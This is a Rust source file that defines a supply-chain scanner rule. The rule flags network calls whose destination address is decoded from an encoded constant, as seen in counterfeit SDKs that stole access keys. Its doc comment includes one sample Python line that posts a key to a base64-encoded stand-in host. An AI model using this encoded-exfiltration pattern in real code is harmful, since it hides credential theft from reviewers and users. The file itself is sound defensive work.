//! # Where a request goes is encoded
//!
//! ## What it finds
//! A network call whose address comes out of a decoder that was given a constant: `post(b64decode("aHR0…").decode(), …)`. The
//! constant may stand in another module of the package.
//!
//! ## Why it matters
//! Nobody encodes the address of a service that readers may know. It keeps the destination out of searches, reviews and
//! blocklists. The counterfeit cloud SDKs on PyPI (2024) sent each access key that their users created to an address
//! in base64; wallet helpers did the same with seed phrases, at a place that only runs when called, deep in
//! a copy of the real library.
//!
//! ## Example
//! ```python
//! requests.post(base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZA==").decode(), json={"k": key})
//! ```
//!
//! ## What to do
//! Decode the address. Do not install the release unless its author gives a reason to hide it.
//!
//! ## When it is wrong
//! Percent-encoding and addresses that come from settings are not reported. Some clients of undocumented services hide
//! the address from that service, not from their users.
use foretaste_engine::prelude::*;

use crate::indicators;

declare_rule! {
    HiddenDestination,
    id: "hidden-destination",
    title: "hides where it connects to",
    group: Chain,
    severity: Critical,
    confidence: High,
    needs: [Code],
    tags: ["T1027.013", "T1071.001"],
    since: "0.1.0",
}

impl ChainRule for HiddenDestination {
    fn judge(&self, chain: &Chain<'_>, _scene: &Scene<'_>) -> Option<Finding> {
        let (source, sink) = (chain.source()?, chain.sink()?);
        if !sink.capability.is_network_sink() || chain.flow.link != FlowLink::Data {
            return None;
        }
        let decodes = |step: &Step| match step.capability {
            // percent and entity codes are how addresses are written
            Capability::DecodeText => !["unquote", "unescape", "decodeURI"]
                .iter()
                .any(|a| step.api.contains(a)),
            Capability::DecodeCompressed | Capability::DecodeCipher => true,
            _ => false,
        };
        if !decodes(source) {
            return None;
        }
        let address = sink.constant.as_deref();
        if address.is_some_and(indicators::is_loopback) {
            return None;
        }
        let context = chain.context();
        let mut finding = self
            .finding(format!(
                "connects to an address that stands encoded in its code {}",
                context.phrase()
            ))
            .context(context);
        // known to be an address, and one that nobody reads: certain in itself, whenever it runs
        if address.is_some_and(|a| a.contains("://")) {
            finding = finding.confidence(Confidence::Certain);
        }
        finding.evidence = chain.evidence(|step| match (step.role, &step.constant) {
            (StepRole::Sink, Some(address)) => format!("{} to {address}", step.api),
            _ => step.api.to_string(),
        });
        Some(finding)
    }
}
